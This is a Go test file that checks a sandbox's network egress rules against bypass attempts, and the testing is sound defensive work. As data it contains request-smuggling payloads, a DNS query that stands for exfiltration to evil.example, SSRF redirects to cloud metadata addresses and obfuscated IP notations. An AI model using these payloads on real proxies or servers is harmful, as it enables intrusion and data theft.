package conformance

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"

	sandboxv1 "github.com/sandgate/sandgate/gen/sandbox/v1"
)

// bypassCases are ways around the rules that need more than an attempt.
var bypassCases = []Case{
	{Name: "C29_other_sandboxes", Group: groupNetwork, proxy: true, run: otherSandboxes},
	{Name: "C29_names_of_private_addresses", Group: groupNetwork, proxy: true, run: namesOfPrivateAddresses},
	{Name: "C29_literals", Group: groupNetwork, proxy: true, run: literals},
	{Name: "C29_smuggled_requests", Group: groupNetwork, proxy: true, run: smuggledRequests},
	{Name: "C29_redirects", Group: groupNetwork, proxy: true, run: redirects},
	{Name: "C29_requests_for_another_host", Group: groupNetwork, proxy: true, run: requestsForAnotherHost},
}

// Types and classes of name queries.
const (
	typeA    = 1
	typeAXFR = 252
	classIN  = 1
	classCH  = 3
)

// queries are name queries of all kinds. A name server that gives no answer but addresses
// carries no data, and no keys for an encrypted ClientHello.
func queries() []attempt {
	query := func(network, name string, kind, class int, want string) attempt {
		return attempt{fmt.Sprintf("dns=%s,%s,%d,%d", network, name, kind, class), want}
	}
	all := []attempt{
		query("udp", allowedName, typeA, classIN, "code 0, 1 answers"), query("tcp", allowedName, typeA, classIN, "code 0, 1 answers"),
		query("udp", "evil.example", typeA, classIN, "code 3, 0 answers"), query("tcp", "evil.example", typeA, classIN, "code 3, 0 answers"),
		query("tcp", allowedName, typeAXFR, classIN, "code 0, 0 answers"), query("udp", "version.bind", 16, classCH, "code 4, 0 answers"),
		query("udp", allowedName, typeA, classCH, "code 4, 0 answers"),
		query("udp", strings.Repeat("c2VjcmV0", 7)+"."+strings.Repeat("c2VjcmV0", 7)+".evil.example", typeA, classIN, "code 3, 0 answers"),
		query("udp", "1.2.0.192.in-addr.arpa", 12, classIN, "code 3, 0 answers"),
	}
	// NS, CNAME, SOA, NULL, MX, TXT, AAAA, SRV, NAPTR, DNSKEY, SVCB, HTTPS, URI, ANY.
	for _, kind := range []int{2, 5, 6, 10, 15, 16, 28, 33, 35, 48, 64, 65, 256, 255} {
		all = append(all, query("udp", allowedName, kind, classIN, "code 0, 0 answers"), query("udp", "evil.example", kind, classIN, "code 3, 0 answers"))
	}
	return all
}

// otherSandboxes: no sandbox connects to a listener of another one.
func otherSandboxes(ctx context.Context, t T, s *Suite) {
	other, _ := s.networked(ctx, t, allowHost(allowedName))
	r := other.sh(ctx, t, "./net listen >listens 2>&1 & i=0; while [ ! -s listens ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done; cat listens")
	words := strings.Fields(r.stdout)
	if r.code() != 0 || len(words) == 0 {
		t.Fatalf("the other sandbox does not listen: %v", r)
	}
	port, addresses := words[0], words[1:]
	other.try(ctx, t, attempt{"tcp=127.0.0.1:" + port, "open"})
	box, _ := s.networked(ctx, t, allowHost(allowedName))
	all := []attempt{{"tcp=127.0.0.1:" + port, refused}, {"tcp=[::1]:" + port, refused}, {"connect=127.0.0.1:" + port, " 403 "}, {"connect=localhost:" + port, " 403 "}}
	for _, address := range addresses {
		at := net.JoinHostPort(address, port)
		all = append(all, attempt{"connect=" + at, " 403 "})
		if s.enforces("network") {
			all = append(all, attempt{"tcp=" + at, refused})
		}
	}
	box.try(ctx, t, all...)
}

// toServer are connections to the server that runs the sandbox, and to this machine by its
// own addresses.
func (s *Suite) toServer() []attempt {
	var all []attempt
	network, address := serverAddress(s.opts.Address)
	port := "22"
	if network == "unix" {
		all = append(all, attempt{"unix=" + address, refused}, attempt{"unix=@" + address, refused})
	} else {
		_, port, _ = net.SplitHostPort(address)
		all = append(all, attempt{"connect=" + address, " 403 "}, attempt{"socks=" + address, "reply 2"})
	}
	for _, host := range append(thisMachine(), "127.0.0.1", "127.1", "localhost", "[::1]", "host.docker.internal", "gateway.docker.internal", "kubernetes.default.svc") {
		all = append(all, attempt{"connect=" + host + ":" + port, " 403 "})
	}
	return all
}

// thisMachine returns this machine's addresses beyond loopback as a URL has them. There
// are none if the machine has no network.
func thisMachine() []string {
	all, err := net.InterfaceAddrs()
	if err != nil {
		return nil
	}
	var hosts []string
	for _, one := range all {
		prefix, err := netip.ParsePrefix(one.String())
		switch {
		case err != nil || !prefix.Addr().IsGlobalUnicast():
		case prefix.Addr().Is6():
			hosts = append(hosts, "["+prefix.Addr().String()+"]")
		default:
			hosts = append(hosts, prefix.Addr().String())
		}
	}
	return hosts
}

// namesOfPrivateAddresses: a rule for a name allows no private address that the name has,
// as after DNS rebinding.
func namesOfPrivateAddresses(ctx context.Context, t T, s *Suite) {
	host, port := s.upstream(t)
	box, _ := s.networked(ctx, t, allowHost(host, upstreamPort(port)...))
	at := net.JoinHostPort(host, port)
	box.try(ctx, t,
		attempt{"connect=" + at, " 403 "}, attempt{"socks=" + at, "reply 2"}, attempt{"absolute=http://" + at + "/", "403 Forbidden"},
		attempt{"get=" + at, "reset"}, attempt{"tcp=127.0.0.1:" + port, refused},
	)
}

// literals: an address that a CIDR rule allows is reached through the proxy in every
// notation, and directly where the sandbox has a local route for it. Otherwise the direct
// way fails at once.
func literals(ctx context.Context, t T, s *Suite) {
	_, port := s.upstream(t)
	hosts := thisMachine()
	own := slices.IndexFunc(hosts, func(host string) bool { return !strings.HasPrefix(host, "[") })
	if own < 0 {
		t.Skipf("this machine has no IPv4 address beyond loopback")
	}
	addr := netip.MustParseAddr(hosts[own])
	rule := &sandboxv1.EgressRule{Cidrs: []string{addr.String()}, Ports: upstreamPort(port)}
	box, _ := s.networked(ctx, t, rule)
	at := net.JoinHostPort(addr.String(), port)
	b := addr.As4()
	var all []attempt
	for _, notation := range []string{
		addr.String(), fmt.Sprint(uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])), fmt.Sprintf("0x%02x%02x%02x%02x", b[0], b[1], b[2], b[3]),
		fmt.Sprintf("0%o.0%o.0%o.0%o", b[0], b[1], b[2], b[3]), fmt.Sprintf("%d.0x%x.%d", b[0], b[1], uint32(b[2])<<8|uint32(b[3])),
		fmt.Sprintf("[::ffff:%s]", addr), fmt.Sprintf("[::ffff:%02x%02x:%02x%02x]", b[0], b[1], b[2], b[3]),
	} {
		all = append(all, attempt{"connect=" + notation + ":" + port, " 200 "})
	}
	direct := "200 OK upstream of " + at + "|unreachable|refused"
	all = append(all,
		attempt{"socks=" + at, "reply 0"}, attempt{"absolute=http://" + at + "/", "200 OK upstream of " + at}, attempt{"get=" + at, direct},
		attempt{"connect=" + addr.String() + ":1", " 403 "}, attempt{"connect=" + addr.Next().String() + ":" + port, " 403 "}, attempt{"connect=" + addr.Prev().String() + ":" + port, " 403 "},
		attempt{fmt.Sprintf("connect=[64:ff9b::%02x%02x:%02x%02x]:%s", b[0], b[1], b[2], b[3], port), " 403 "},
		attempt{"tcp=" + addr.String() + ":1", refused}, attempt{"tcp=" + addr.Next().String() + ":" + port, refused},
	)
	box.try(ctx, t, all...)
}

// smuggledRequests: whatever a program sends on a connection to a name, the upstream gets
// no request for another one.
func smuggledRequests(ctx context.Context, t T, s *Suite) {
	var came visits
	host, port := s.serveUpstream(t, nil, func(_ http.ResponseWriter, r *http.Request) { came.add(r) })
	box, _ := s.networked(ctx, t, upstreamRule(host, port)...)
	at := net.JoinHostPort(host, port)
	const evil = `GET /evil HTTP/1.1\r\nHost: evil.example\r\n\r\n`
	own := `Host: ` + at + `\r\n`
	var tries []string
	for _, text := range []string{
		`GET /good HTTP/1.1\r\n` + own + `\r\n`,
		`GET / HTTP/1.1\r\n` + own + `\r\n` + evil,
		`POST / HTTP/1.1\r\n` + own + `Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n` + evil,
		`POST / HTTP/1.1\r\n` + own + `Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n` + evil,
		`POST / HTTP/1.1\r\n` + own + `Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n` + evil,
		`POST / HTTP/1.1\r\n` + own + `Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n` + evil,
		`POST / HTTP/1.1\r\n` + own + `Content-Length: 0\r\nContent-Length: 5\r\n\r\n` + evil,
		`POST / HTTP/1.1\r\n` + own + `Content-Length: +5\r\n\r\n` + evil,
		`GET / HTTP/1.1\r\n` + own + `Host: evil.example\r\n\r\n`,
		`GET / HTTP/1.1\r\nHost: evil.example\r\n` + own + `\r\n`,
		`GET / HTTP/1.1\r\nHost: evil.example#` + at + `\r\n\r\n`,
		`GET / HTTP/1.1\r\nHost: ` + at + `@evil.example\r\n\r\n`,
		`GET http://evil.example/ HTTP/1.1\r\n` + own + `\r\n`,
		`GET / HTTP/1.1\r\n` + own + `X: y\n\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
		`GET / HTTP/1.1\r\n Host: evil.example\r\n` + own + `\r\n`,
		`GET / HTTP/1.1\r\nHost:\r\n\r\n`, `GET / HTTP/1.0\r\n\r\n`, `GET /\r\n\r\n`,
		`CONNECT evil.example:443 HTTP/1.1\r\n` + own + `\r\n`,
		`GET / HTTP/1.1\r\n` + own + `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n` + evil,
		`\r\n\r\n` + evil, evil,
	} {
		tries = append(tries, "pipeline="+at+","+text)
	}
	for i, got := range box.results(ctx, t, "", tries...) {
		if strings.Contains(got, "timeout") {
			t.Errorf("%s: got %q", tries[i], got)
		}
	}
	good := false
	for _, r := range came.take() {
		good = good || r.URL.Path == "/good"
		if r.Host != at || r.URL.Path == "/evil" {
			t.Errorf("the upstream got a request for %s%s", r.Host, r.URL.Path)
		}
	}
	if !good {
		t.Errorf("an ordinary request did not reach the upstream")
	}
}

// redirects: an allowed upstream does not lead a program to what no rule allows.
func redirects(ctx context.Context, t T, s *Suite) {
	host, port := s.serveUpstream(t, nil, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
	})
	box, _ := s.networked(ctx, t, upstreamRule(host, port)...)
	at := "follow=GET http://" + net.JoinHostPort(host, port) + "/?to="
	box.try(ctx, t,
		attempt{at + "http://169.254.169.254/latest/meta-data/", "403 Forbidden"}, attempt{at + "http://2852039166/", "403 Forbidden"},
		attempt{at + "http://[fd00:ec2::254]/", "403 Forbidden"}, attempt{at + "http://metadata.google.internal/", "403 Forbidden"},
		attempt{at + "http://evil.example/", "403 Forbidden"}, attempt{at + "https://evil.example/", "evil.example:443 denied"},
		attempt{at + "http://127.0.0.1:1/", "403 Forbidden"}, attempt{at + "http://localhost:22/", "403 Forbidden"},
	)
}

// requestsForAnotherHost: where the server ends TLS, a connection carries requests for its
// own name only, also if the program takes it for one that serves several, as clients of
// HTTP/2 do.
func requestsForAnotherHost(ctx context.Context, t T, s *Suite) {
	var came visits
	rule, address, url := s.interceptedUpstream(t, func(_ http.ResponseWriter, r *http.Request) { came.add(r) })
	box, _ := s.networked(ctx, t, rule, address)
	at := strings.TrimPrefix(url, "https://")
	host := rule.GetHosts()[0]
	box.try(ctx, t, attempt{"lie=" + at + " " + url, "HTTP/2.0 200 OK"})
	if n := len(came.take()); n != 1 {
		t.Errorf("%d requests reached the upstream", n)
	}
	var all []attempt
	for _, name := range []string{"evil.example", "evil.example:443", "sub." + at, host + ".evil.example", host + ":1", "127.0.0.1", "localhost"} {
		all = append(all, attempt{"lie=" + name + " " + url, "HTTP/2.0 421 "})
	}
	box.try(ctx, t, all...)
	for _, r := range came.take() {
		t.Errorf("the upstream got a request for %s", r.Host)
	}
}
